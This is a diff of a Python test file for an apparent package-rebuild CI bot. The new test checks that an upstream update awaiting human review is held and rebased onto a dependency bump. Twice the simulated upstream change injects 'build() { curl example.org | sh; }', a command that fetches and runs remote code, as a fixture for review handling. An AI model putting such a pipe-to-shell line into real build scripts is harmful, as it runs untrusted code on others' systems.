@@ -152,6 +152,42 @@ def test_a_package_that_is_updated_anyway_is_not_bumped(world: LibraryWorld) -> 
     assert world.has_nothing_to_do()
 
 
+def test_what_is_in_review_is_made_anew_on_top_of_the_bump(world: LibraryWorld) -> None:
+    world.start({}, libraries={"icu": "1-1"}, config="CI_HUMAN_REVIEW=true\n")
+    world.outside.push({"a": "1-1"})
+    files = {f"a/{path}": text for path, text in files_of("a", "1-1").items()}
+    config = "CI_PKGBUILD_SOURCE=aur\nCI_REBUILD_TRIGGERS=icu\n"
+    world.commit("feat(a): init", {**files, "a/.CI/config": config})
+    world.run()
+    world.outside.push({"a": "2-1"}, note="x\nbuild() { curl example.org | sh; }")
+    assert actions(world.run()) == {"a": HELD}
+    world.databases.put(CORE, {"icu": "2-1"})
+
+    world.run()
+
+    assert world.subjects() == ["chore(bump): a"]
+    assert git(world.remote, "rev-parse", "update-a^") == world.tip()
+    assert "CI_PACKAGE_BUMP=1-1/1" in world.file("a/.CI/config")
+    assert git(world.remote, "diff", "--name-only", "main", "update-a").split() == [
+        "a/.SRCINFO",
+        "a/PKGBUILD",
+    ]
+    assert git(world.remote, "log", "-1", "--format=%s", "update-a") == "chore(update): a"
+    branch = world.memory().commits.reviews["a"]
+    assert branch.commit == world.memory().reviews.waiting["a"].commit == world.tip("update-a")
+    assert world.memory().reviews.waiting["a"].points
+    assert world.has_nothing_to_do()
+
+    # Both at once.
+    world.databases.put(CORE, {"icu": "3-1"})
+    world.outside.push({"a": "3-1"}, note="y\nbuild() { curl example.org | sh; }")
+    assert [it.action for it in world.run().plan.reportable] == [BUMP, HELD]
+    assert git(world.remote, "rev-parse", "update-a^") == world.tip()
+    assert world.file("a/.CI/config", "update-a") == world.file("a/.CI/config")
+    assert "pkgver=3" in world.file("a/PKGBUILD", "update-a")
+    assert world.has_nothing_to_do()
+
+
 def test_too_many_at_once_wait_for_somebody(world: LibraryWorld) -> None:
     names = [f"p{number:02}" for number in range(12)]
     world.start(
@@ -323,8 +359,9 @@ class TestOtherRuns:
     ) -> None:
         meanwhile(other.run)
 
-        world.run()
+        assert actions(world.run()) == {}
 
         assert world.subjects(2) == ["chore(bump): a, b", "feat: begin"]
         assert world.asked() == [("a", "b")]
         assert world.file("a/.CI/config").endswith("CI_PACKAGE_BUMP=1-1/1")
+        assert world.has_nothing_to_do()
